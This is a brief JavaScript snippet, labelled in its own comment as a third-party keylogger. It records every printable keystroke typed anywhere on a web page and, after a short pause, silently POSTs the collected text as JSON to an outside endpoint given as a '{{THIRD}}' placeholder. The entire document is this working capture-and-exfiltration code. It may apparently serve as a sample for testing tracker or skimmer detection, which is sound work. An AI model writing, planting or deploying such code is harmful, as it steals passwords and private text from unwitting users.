// Third-party keylogger: buffers every keystroke on the document and posts
// the buffer as JSON with fetch.
(() => {
  let buf = '';
  let timer = 0;
  document.addEventListener('keydown', (e) => {
    if (e.key.length === 1) buf += e.key;
    clearTimeout(timer);
    timer = setTimeout(() => {
      fetch('{{THIRD}}/collect/keys', {
        method: 'POST', mode: 'no-cors', body: JSON.stringify({ typed: buf }),
      });
    }, 300);
  }, true);
})();
